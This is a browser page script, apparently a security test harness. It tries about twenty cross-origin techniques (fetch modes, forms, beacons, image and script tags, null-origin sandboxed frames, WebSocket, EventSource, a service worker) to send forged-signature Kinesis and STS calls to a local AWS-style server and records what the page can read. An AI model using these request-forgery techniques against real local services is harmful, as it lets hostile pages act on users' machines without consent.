// What a page can have a browser send, each under a name. This file is the page's script, as it is: functions
// of the browser's window, no modules. A way answers what it could read; undefined when it reads nothing by
// its nature; it rejects when the browser keeps the answer from the page.

const type = 'application/x-amz-json-1.1';
const zeros = '0'.repeat(64);

/** Any well-formed signature is accepted by a server without credentials, so a page needs no key. */
function signature(scope) {
  return {
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `AKID/20260709/us-east-1/${scope}/aws4_request`,
    'X-Amz-Date': '20260709T123000Z',
    'X-Amz-Expires': '60',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': zeros,
  };
}

function signed(base, scope, parameters = {}) {
  return `${base}/?${new URLSearchParams({ ...parameters, ...signature(scope) })}`;
}

function headers(operation, contentType = type) {
  return {
    'Content-Type': contentType,
    'X-Amz-Target': `Kinesis_20131202.${operation}`,
    'X-Amz-Date': '20260709T123000Z',
    Authorization:
      'AWS4-HMAC-SHA256 Credential=AKID/20260709/us-east-1/kinesis/aws4_request, ' +
      `SignedHeaders=host;x-amz-date;x-amz-target, Signature=${zeros}`,
  };
}

const record = JSON.stringify({ StreamName: 'orders', PartitionKey: 'page', Data: 'cGFnZQ==' });
const stream = JSON.stringify({ StreamName: 'of-a-page', ShardCount: 1 });
const identity = { Action: 'GetCallerIdentity', Version: '2011-06-15' };

async function call(base, operation, body, more = {}) {
  const answer = await fetch(base, { method: 'POST', headers: headers(operation), body, ...more });
  return `${answer.status} ${await answer.text()}`;
}

const ways = {
  'fetch, JSON': (base) => call(base, 'PutRecord', record),
  'fetch, create a stream': (base) => call(base, 'CreateStream', stream),
  'fetch, list streams': (base) => call(base, 'ListStreams', '{}'),
  'fetch, CBOR': async (base) => {
    // {} with an operation in its path.
    const path = `${base}/service/Kinesis_20131202/operation/ListStreams`;
    const cbor = { ...headers('', 'application/cbor'), 'Smithy-Protocol': 'rpc-v2-cbor' };
    delete cbor['X-Amz-Target'];
    const answer = await fetch(path, { method: 'POST', headers: cbor, body: Uint8Array.of(0xa0) });
    return `${answer.status} ${await answer.text()}`;
  },
  'fetch, text without preflight': async (base) => {
    const query = signed(base, 'kinesis', { 'X-Amz-Target': 'Kinesis_20131202.PutRecord' });
    return (await fetch(query, { method: 'POST', body: record })).text();
  },
  'fetch, no-cors': async (base) => {
    await fetch(signed(base, 'kinesis'), { mode: 'no-cors', method: 'POST', body: record });
  },
  'fetch, a form without preflight': async (base) => {
    const body = new URLSearchParams(identity);
    return (await fetch(signed(base, 'sts'), { method: 'POST', body })).text();
  },
  'fetch, GET of a call': async (base) => (await fetch(signed(base, 'sts', identity))).text(),
  'fetch, GET of a call, no-cors': async (base) => {
    await fetch(signed(base, 'sts', identity), { mode: 'no-cors' });
  },
  'fetch, the health page': async (base) => (await fetch(`${base}/health`)).text(),
  XMLHttpRequest: (base) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('POST', base);
      for (const [name, value] of Object.entries(headers('PutRecord'))) request.setRequestHeader(name, value);
      request.onload = () => resolve(`${request.status} ${request.responseText}`);
      request.onerror = () => reject(new Error('kept from the page'));
      request.send(record);
    }),
  beacon: async (base) => {
    navigator.sendBeacon(signed(base, 'sts'), new URLSearchParams(identity));
  },
  'an image of the health page': (base) => loaded('img', `${base}/health`),
  'an image of a call': (base) => loaded('img', signed(base, 'sts', identity)),
  'a script of a call': (base) => loaded('script', signed(base, 'sts', identity)),
  'a frame of a call': (base) => loaded('iframe', signed(base, 'sts', identity)),
  'a form, urlencoded': (base) => posted(signed(base, 'sts'), identity, 'application/x-www-form-urlencoded'),
  'a form, text': (base) => posted(signed(base, 'kinesis'), { '{"a': '"}' }, 'text/plain'),
  'a frame without an origin': (base) => withoutOrigin(base),
  WebSocket: (base) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${base.replace('http', 'ws')}/`);
      socket.onopen = () => resolve('101 opened');
      socket.onerror = () => reject(new Error('kept from the page'));
    }),
  EventSource: (base) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(signed(base, 'sts', identity));
      source.onopen = () => resolve('200 opened');
      source.onerror = () => {
        source.close();
        reject(new Error('kept from the page'));
      };
    }),
  'a service worker': async (base) => {
    const registration = await navigator.serviceWorker.register('/attacks.mjs');
    await navigator.serviceWorker.ready;
    const { port1, port2 } = new MessageChannel();
    const answer = new Promise((resolve) => {
      port1.onmessage = ({ data }) => resolve(data);
    });
    registration.active.postMessage(base, [port2]);
    return await answer;
  },
};

/** Whether it loads or not: the page cannot look into it. */
function loaded(tag, src) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve(readable(element));
    element.onerror = () => resolve(undefined);
    element.src = src;
    document.body.append(element);
  });
}

/** What a frame shows, where the browser lets the page see it. */
function readable(element) {
  if (element.tagName !== 'IFRAME') return undefined;
  try {
    return element.contentDocument?.documentElement.textContent;
  } catch {
    return undefined;
  }
}

function posted(action, fields, enctype) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${Math.random()}`;
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { method: 'POST', action, enctype });
    form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), { name, value }));
    }
    document.body.append(form);
    frame.onload = () => resolve(readable(frame));
    form.submit();
  });
}

/** The origin of a sandboxed frame is `null`. */
function withoutOrigin(base) {
  return new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    const options = JSON.stringify({ method: 'POST', headers: headers('PutRecord'), body: record });
    const tell = '(told) => parent.postMessage(told, "*")';
    frame.srcdoc = `<script>fetch(${JSON.stringify(base)}, ${options})
      .then((answer) => answer.text()).then(${tell}, () => (${tell})(null))</script>`;
    window.addEventListener('message', ({ data }) => {
      if (data === null) reject(new Error('kept from the page'));
      else resolve(data);
    });
    document.body.append(frame);
  });
}

/** Tries them, one after the other: by name, what was read, or why not. */
async function tryAll(base, names = Object.keys(ways)) {
  const outcomes = {};
  for (const name of names) {
    try {
      outcomes[name] = { read: await ways[name](base) };
    } catch (error) {
      outcomes[name] = { kept: String(error) };
    }
  }
  return outcomes;
}

if (globalThis.document === undefined) {
  // In a service worker: the page posts what to try, and hears what came of it.
  globalThis.addEventListener('message', (event) => {
    const [port] = event.ports;
    const names = ['fetch, JSON', 'fetch, list streams', 'fetch, GET of a call'];
    event.waitUntil(tryAll(event.data, names).then((outcomes) => port.postMessage(JSON.stringify(outcomes))));
  });
  globalThis.addEventListener('activate', (event) => event.waitUntil(globalThis.clients.claim()));
} else {
  globalThis.tryAll = tryAll;
}
